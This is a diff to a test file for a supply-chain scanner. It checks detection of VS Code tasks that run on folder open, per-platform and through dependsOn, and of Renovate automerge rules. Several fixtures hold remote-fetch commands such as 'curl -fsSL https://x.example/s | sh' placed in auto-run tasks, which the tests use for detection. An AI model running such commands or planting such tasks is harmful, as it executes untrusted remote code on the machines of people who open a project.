@@ -50,6 +50,31 @@ describe('vscode-folder-open-task', () => {
   it('does not report tasks people run themselves', () => {
     expect(found('.vscode/tasks.json', TASKS(null), TASKS('default', 'npm run build'))).toEqual([]);
   });
+
+  // VS Code merges a platform's block (`osx`, `linux`, `windows`) over the task, and the file's global blocks under it.
+  const platformTasks = (osx: string, extra = '') =>
+    `{\n  "version": "2.0.0",${extra}\n  "tasks": [\n    {\n      "label": "setup",\n      "type": "shell",\n      "command": "echo ready",\n      "osx": { "command": "${osx}" },\n      "windows": { "command": "powershell", "args": ["-File", "scripts/setup.ps1"] },\n      "runOptions": { "runOn": "folderOpen" }\n    }\n  ]\n}\n`;
+  const details = (base: string | null, head: string) => {
+    const snapshot = snapshotOf(change('.vscode/tasks.json', base, head));
+    return analyzeSupplyChain(snapshot, makeContext(undefined, snapshot)).findings.map((f) => f.detail);
+  };
+  it('names what runs on each platform, and reports a platform command a PR changes', () => {
+    const [detail] = details(null, platformTasks('curl -fsSL https://x.example/s | sh'));
+    expect(detail).toContain('`echo ready` (on Linux)');
+    expect(detail).toContain('`curl -fsSL https://x.example/s | sh` (on macOS)');
+    expect(detail).toContain('`powershell -File scripts/setup.ps1` (on Windows)');
+    expect(found('.vscode/tasks.json', platformTasks('./scripts/setup.sh'), platformTasks('curl -fsSL https://x.example/s | sh'))).toEqual(['vscode-folder-open-task:high']);
+    // The file's global `osx` block, under a task that names no command of its own.
+    const global = '{ "version": "2.0.0", "osx": { "command": "curl -fsSL https://x.example/s | sh" }, "tasks": [{ "label": "init", "runOptions": { "runOn": "folderOpen" } }] }';
+    expect(details(null, global)[0]).toContain('`curl -fsSL https://x.example/s | sh` (on macOS)');
+  });
+  it('names the commands of the tasks a folderOpen task depends on', () => {
+    const tasks = '{ "version": "2.0.0", "tasks": [{ "label": "init", "dependsOn": ["fetch"], "runOptions": { "runOn": "folderOpen" } }, { "label": "fetch", "type": "shell", "command": "bash", "args": [{ "value": "-c", "quoting": "strong" }, "curl -s https://x.example/s | sh"] }] }';
+    expect(details(null, tasks)[0]).toContain('`bash -c curl -s https://x.example/s | sh` (through dependsOn "fetch")');
+  });
+  it('does not report a folderOpen task whose commands on every platform are unchanged', () => {
+    expect(found('.vscode/tasks.json', platformTasks('./scripts/setup.sh'), platformTasks('./scripts/setup.sh', '\n  "presentation": { "reveal": "silent" },'))).toEqual([]);
+  });
 });
 
 describe('devcontainer-lifecycle-command', () => {
@@ -239,6 +264,12 @@ describe('renovate-automerge and renovate-post-upgrade-command', () => {
   });
   it('does not report automerge of patches and minors', () => {
     expect(found('renovate.json', '{ "extends": ["config:recommended"] }', '{ "extends": ["config:recommended"], "packageRules": [{ "matchUpdateTypes": ["minor", "patch"], "automerge": true }] }')).toEqual([]);
+  });
+  it('names what a rule limited by manager, dependency type or file automerges, not every update', () => {
+    const titles = (config: unknown) => (extractRenovate(JSON.stringify(config), 'renovate.json').findings ?? []).map((f) => f.title);
+    expect(titles({ packageRules: [{ matchManagers: ['github-actions'], pinDigests: true, automerge: true }] })).toEqual(['Renovate merges the updates of matchManagers: github-actions without a review']);
+    expect(titles({ packageRules: [{ matchDepTypes: 'devDependencies', automerge: true }] })).toEqual(['Renovate merges the updates of matchDepTypes: devDependencies without a review']);
+    expect(titles({ automerge: true })).toEqual(['Renovate merges every update without a review']);
   });
 });
 
